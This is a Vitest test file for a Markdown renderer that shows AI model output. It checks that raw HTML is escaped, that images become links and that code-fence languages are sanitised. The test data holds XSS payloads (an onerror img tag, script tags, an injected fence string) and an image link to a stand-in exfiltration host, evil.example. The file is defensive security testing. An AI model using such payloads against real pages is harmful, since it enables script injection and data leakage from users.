import { describe, expect, it } from 'vitest';
import { createMarkdownRenderer, fenceLanguage } from './render-markdown.ts';

// What DOMPurify removes is proven in Chromium (tests/e2e/playground.test.ts): happy-dom does not
// parse HTML the way browsers do. Here: what the renderer itself produces from model output.
describe('createMarkdownRenderer', () => {
  const render = createMarkdownRenderer();

  it('renders Markdown: headings, emphasis, lists, tables, line breaks', () => {
    const html = render('# Title\n\n**bold** and *it*\nnext\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |');
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<strong>bold</strong> and <em>it</em><br>next');
    expect(html).toContain('<li>a</li>');
    expect(html).toContain('<td>1</td>');
  });

  it("shows the model's HTML as text, never as elements", () => {
    const html = render('<img src=x onerror="alert(1)"> and <script>alert(2)</script>\n\n<div onclick="x()">block</div>');
    expect(html).not.toMatch(/<img|<script|<div/);
    expect(html).toContain('&lt;img src=x onerror=&quot;alert(1)&quot;&gt;');
    expect(html).toContain('&lt;script&gt;alert(2)&lt;/script&gt;');
  });

  it('turns images into links, so a reply cannot make the browser fetch an address', () => {
    const html = render('![secret](https://evil.example/leak?d=1)');
    expect(html).not.toContain('<img');
    expect(html).toContain('<a href="https://evil.example/leak?d=1">secret</a>');
  });

  it('escapes code blocks until a highlighter is there, then uses it', () => {
    expect(render('```js\nconst a = "<b>";\n```')).toContain(
      '<pre data-language="js"><code class="hljs language-js">const a = &quot;&lt;b&gt;&quot;;</code></pre>',
    );
    const highlighted = createMarkdownRenderer((code, language) => (language === 'js' ? `<span class="hljs-keyword">${code.length}</span>` : undefined));
    expect(highlighted('```js\nabc\n```')).toContain('<code class="hljs language-js"><span class="hljs-keyword">3</span></code>');
    expect(highlighted('```cobol\n<x>\n```')).toContain('&lt;x&gt;');
  });

  it('keeps only a plain language word from the fence', () => {
    expect(fenceLanguage('TypeScript title="x"')).toBe('typescript');
    expect(fenceLanguage('"><script>')).toBe('');
    expect(fenceLanguage(undefined)).toBe('');
  });
});
